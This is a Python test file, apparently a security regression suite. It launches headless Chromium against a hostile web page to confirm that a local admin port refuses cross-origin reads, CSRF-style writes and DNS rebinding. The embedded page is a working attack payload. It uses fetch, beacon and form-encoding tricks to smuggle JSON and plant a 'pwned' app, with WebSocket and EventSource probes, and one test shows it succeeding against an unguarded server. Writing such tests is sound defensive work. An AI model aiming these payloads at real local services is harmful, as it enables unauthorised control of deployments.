"""A web page of somebody else in a real browser, against the admin port of this host."""

from __future__ import annotations

import http.client
import json
import shutil
import subprocess
import threading
from collections.abc import Iterator
from concurrent.futures import Future
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.support.turnout import Turnout

pytestmark = pytest.mark.skipif(
    shutil.which("chromium") is None, reason="chromium is not installed (Debian package chromium)"
)

MARK = "a-secret-of-an-app"  # what a page would like to read
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-dev-shm-usage", "--no-proxy-server",
    # names that an attacker's DNS makes lead to this host
    "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.2",
]  # fmt: skip
WAIT_S = 90.0

PAGE = """<!doctype html><title>hostile</title><body><script>
const at = "TARGET", seen = {}, write = 'WRITE';
const later = (ms) => new Promise((done) => setTimeout(done, ms));
async function attempt(name, doing) {
  try { seen[name] = String(await Promise.race([doing(), later(4000).then(() => "nothing")])); }
  catch (error) { seen[name] = "failed: " + error; }
}
const text = (path, options) => async () => {
  const answer = await fetch(at + path, options);
  return answer.type + " " + answer.status + " " + (await answer.text());
};
function element(kind, key, path, read) {
  return () => new Promise((done) => {
    const it = document.createElement(kind);
    it.onload = () => done("loaded " + (read ? read(it) : ""));
    it.onerror = () => done("refused");
    it[key] = at + path;
    if (kind === "link") it.rel = "stylesheet";
    document.body.append(it);
  });
}
function form(encoding, name, value) {
  return () => new Promise((done) => {
    const frame = document.createElement("iframe"), it = document.createElement("form");
    const field = document.createElement("input");
    frame.name = "frame" + encoding; it.target = frame.name; it.method = "POST";
    it.enctype = encoding; it.action = at + "/v1/transactions";
    field.name = name; field.value = value; field.type = "hidden";
    it.append(field); document.body.append(frame, it);
    frame.onload = () => done("sent");
    it.submit();
  });
}
(async () => {
  const plain = { method: "POST", headers: { "Content-Type": "text/plain" }, body: write };
  const typed = { "Content-Type": "application/json" };
  for (const path of ["/v1/apps", "/v1/journal", "/metrics", "/table", "/healthz", "/docs"]) {
    await attempt("read " + path, text(path, {}));
    await attempt("read no-cors " + path, text(path, { mode: "no-cors", credentials: "include" }));
  }
  await attempt("write as text", text("/v1/transactions", { ...plain, mode: "no-cors" }));
  await attempt("write as text, cors", text("/v1/transactions", plain));
  await attempt("write as json", text("/v1/transactions", { ...plain, headers: typed }));
  await attempt("put", text("/v1/apps/put", { method: "PUT", headers: typed, body: write }));
  await attempt("guess", text("/v1/apps", { headers: { Authorization: "Bearer guess" } }));
  await attempt("beacon", async () =>
    navigator.sendBeacon(at + "/v1/transactions", new Blob([write], { type: "text/plain" })));
  // name=value of a text/plain form: JSON with the equals sign inside a text
  const cut = write.indexOf("=");
  await attempt("form as text", form("text/plain", write.slice(0, cut), write.slice(cut + 1)));
  await attempt("form", form("application/x-www-form-urlencoded", "body", write));
  await attempt("form in parts", form("multipart/form-data", "body", write));
  await attempt("sync", text("/v1/sync", { method: "POST", mode: "no-cors",
    headers: { "Content-Type": "text/plain" }, body: '{"router": "rogue"}' }));
  await attempt("token", text("/adfs/oauth2/token", { method: "POST", mode: "no-cors",
    headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "client_secret=x" }));
  await attempt("events", () => new Promise((done) => {
    const stream = new EventSource(at + "/v1/journal");
    stream.onmessage = (event) => done(event.data);
    stream.onopen = () => done("opened");
    stream.onerror = () => done("refused");
  }));
  await attempt("websocket", () => new Promise((done) => {
    const socket = new WebSocket(at.replace("http", "ws") + "/v1/apps");
    socket.onopen = () => done("opened");
    socket.onmessage = (event) => done(event.data);
    socket.onerror = () => done("refused");
  }));
  await attempt("script", element("script", "src", "/v1/apps"));
  await attempt("style", element("link", "href", "/metrics"));
  await attempt("image", element("img", "src", "/metrics"));
  await attempt("frame", element("iframe", "src", "/v1/apps", (it) => {
    try { return it.contentDocument.body.innerText; } catch (error) { return "closed"; }
  }));
  await later(500);  // what was sent last arrives
  await fetch("/result", { method: "POST", body: JSON.stringify(seen) });
})();
</script>"""


class Hostile(ThreadingHTTPServer):
    """Serves the page, and hands everything else on to `relay`, as after a rebinding of DNS."""

    daemon_threads = True

    def __init__(self, host: str, port: int, target: str = "", relay: str = "") -> None:
        super().__init__((host, port), _Handler)
        self.target = target
        self.relay = relay
        self.result: Future[dict[str, str]] = Future()
        self.requests: list[tuple[str, str, str, bytes]] = []  # method, path, type, body


class _Handler(BaseHTTPRequestHandler):
    server: Hostile

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/page":
            write = json.dumps(WRITE)
            page = PAGE.replace("TARGET", self.server.target).replace("WRITE", write)
            self._send(200, "text/html", page.encode())
        elif self.path == "/result":
            self._send(204, "text/plain", b"")
            self.server.result.set_result(json.loads(body))
        elif self.server.relay:
            self._relay(body)
        else:
            kind = self.headers.get("Content-Type", "")
            self.server.requests.append((self.command, self.path, kind, body))
            self._send(200, "application/json", json.dumps({"value": MARK}).encode())

    do_GET = do_POST = do_PUT = do_OPTIONS = _answer

    def _relay(self, body: bytes) -> None:
        """Byte for byte what the browser said, Host and Origin included."""
        connection = http.client.HTTPConnection(self.server.relay, timeout=30)
        connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            connection.putheader(name, value)
        connection.endheaders(body or None)
        with connection.getresponse() as response:
            answer = response.read()
            self._send(response.status, response.headers.get("Content-Type", ""), answer)
        connection.close()

    def _send(self, status: int, kind: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


WRITE: dict[str, Any] = {
    "changes": [
        {
            "app": "pwned",
            "method": "PUT",
            "body": {
                "template": {
                    "containers": [
                        # the form's equals sign hides in here
                        {"image": "endpoint:127.0.0.1:1", "env": [{"name": "A", "value": "x=y"}]}
                    ]
                }
            },
        }
    ]
}


@contextmanager
def serving(host: str, port: int = 0, target: str = "", relay: str = "") -> Iterator[Hostile]:
    server = Hostile(host, port, target, relay)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def visit(hostile: Hostile, url: str, profile: Path) -> dict[str, str]:
    """What the page at `url` saw, once it has tried everything."""
    browser = subprocess.Popen(
        ["chromium", *FLAGS, f"--user-data-dir={profile}", url],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        return hostile.result.result(WAIT_S)
    finally:
        browser.terminate()
        browser.wait(30)


@pytest.fixture
def control(state: Path) -> Iterator[Turnout]:
    flags = {"admin": "127.0.0.1:0", "azure_port": 0}
    with Turnout("control", state=state / "s", **flags) as control:
        container = {"image": "endpoint:127.0.0.1:1", "env": [{"name": "KEY", "value": MARK}]}
        control.must("PUT", "/v1/apps/shop", {"template": {"containers": [container]}})
        yield control


def nothing_happened(control: Turnout, seen: dict[str, str]) -> None:
    """Nothing was written, and nothing but refusals was read."""
    assert [app["name"] for app in control.must("GET", "/v1/apps")["value"]] == ["shop"]
    records = control.must("GET", "/v1/journal")["value"]
    assert len([record for record in records if record["who"] != "turnout"]) == 1
    for what, text in seen.items():
        assert MARK not in text, what
        assert "turnout_" not in text, what  # of the metrics
        assert "shop" not in text, what
    for what in ("events", "websocket", "image"):
        assert seen[what] in ("refused", "nothing"), what


def test_a_page_of_another_origin_neither_reads_nor_writes(
    control: Turnout, tmp_path: Path
) -> None:
    port = control.server.rpartition(":")[2]
    for number, host in enumerate(("127.0.0.1", "localhost")):
        target = f"http://{host}:{port}"
        with serving("127.0.0.1", target=target) as hostile:
            url = f"http://127.0.0.1:{hostile.server_port}/page"
            seen = visit(hostile, url, tmp_path / f"profile{number}")
        nothing_happened(control, seen)
        assert seen["read /v1/apps"].startswith("failed")


def test_a_name_that_is_rebound_to_this_host_neither_reads_nor_writes(
    control: Turnout, tmp_path: Path
) -> None:
    """The page and the admin port have one origin: the name leads to both, one after the other."""
    port = int(control.server.rpartition(":")[2])
    target = f"http://rebound.example:{port}"
    with serving("127.0.0.2", port, target, control.facts["admin"]) as hostile:
        seen = visit(hostile, f"{target}/page", tmp_path / "profile")
    nothing_happened(control, seen)
    assert seen["read /v1/apps"].startswith("basic 421 ")
    assert seen["read /healthz"].startswith("basic 421 ")
    assert seen["write as json"].startswith("basic 421 ")


def test_the_page_would_write_to_a_port_that_does_not_look(tmp_path: Path) -> None:
    """The attack is real: the same page against a server without a guard."""
    with serving("127.0.0.1") as victim:
        target = f"http://evil.example:{victim.server_port}"
        with serving("127.0.0.1", target=target) as hostile:
            url = f"http://evil.example:{hostile.server_port}/page"
            seen = visit(hostile, url, tmp_path / "profile")
        assert seen["read no-cors /v1/apps"].startswith("opaque")
        wrote = [
            kind.partition(";")[0]
            for method, path, kind, body in victim.requests
            if (method, path) == ("POST", "/v1/transactions") and b"pwned" in body
        ]
    assert wrote.count("text/plain") >= 3  # by fetch, by a beacon and by a form
    assert {"application/x-www-form-urlencoded", "multipart/form-data"} <= set(wrote)
    sent = [body for *_, kind, body in victim.requests if kind == "text/plain"]
    assert any(json.loads(body) == WRITE for body in sent if body.endswith(b"}\r\n"))  # the form
